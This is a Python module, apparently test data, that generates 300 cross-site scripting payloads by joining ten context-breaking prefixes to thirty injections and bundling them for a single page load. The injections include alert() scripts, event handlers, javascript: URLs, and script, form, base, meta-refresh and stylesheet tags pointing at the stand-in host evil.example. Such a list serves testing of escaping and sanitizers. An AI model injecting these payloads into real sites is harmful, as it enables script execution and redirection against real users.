"""Three hundred hostile texts: each thing that a browser might run, behind each way out of a place.

They are made, not collected: thirty things that would show a dialog, ask for an address or change
the page, behind ten ways to end the element, the attribute, the script or the template around them.
"""

OPENINGS = (
    "", "</span>", '">', "'>", '" ', "-->", "</script>", "</title></textarea>", "]]>", "{{''}}{%",
)  # fmt: skip
"""Ends the element, the attribute in either kind of mark, the comment, the script, the title, …"""

RUNS = (
    "<script>alert({n})</script>", "<script src=//evil.example/{n}.js></script>",
    "<ScRiPt>alert`{n}`</sCrIpT>", "<img src=x onerror=alert({n})>",
    "<img/src='x'/onerror='alert({n})'>", '<svg onload="alert({n})">',
    "<svg><script>alert({n})</script></svg>", "<svg><a xlink:href=javascript:alert({n})><text>x",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>", "<math><mi//xlink:href=data:x,{n}>",
    "<iframe srcdoc='<script>alert({n})</script>'>", "<iframe src=javascript:alert({n})>",
    "<object data=javascript:alert({n})>", "<embed src=//evil.example/{n}>",
    "<body onpageshow=alert({n})>", "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>", "<video><source onerror=alert({n})></video>",
    "<a href=javascript:alert({n})>x</a>", "<form action=//evil.example/{n}><button>x",
    "<base href=//evil.example/{n}/>", "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>*{{display:none}}/*{n}*/</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<template><b>{n}</template>",
    "onmouseover=alert({n}) autofocus tabindex=0 x=", "&lt;script&gt;alert({n})&lt;/script&gt;",
    "{{{{ {n}*7 }}}}{{% raw %}}${{{n}}}", "\u202e<plaintext>{n}\u202c",
)  # fmt: skip

PAYLOADS = tuple(
    opening + run.format(n=len(RUNS) * row + column)
    for row, opening in enumerate(OPENINGS)
    for column, run in enumerate(RUNS)
)

IN_BUNDLE = 30

BUNDLES = tuple(
    " ".join(PAYLOADS[start : start + IN_BUNDLE]) for start in range(0, len(PAYLOADS), IN_BUNDLE)
)
"""Several in one text, so that a page is opened once for all of them."""
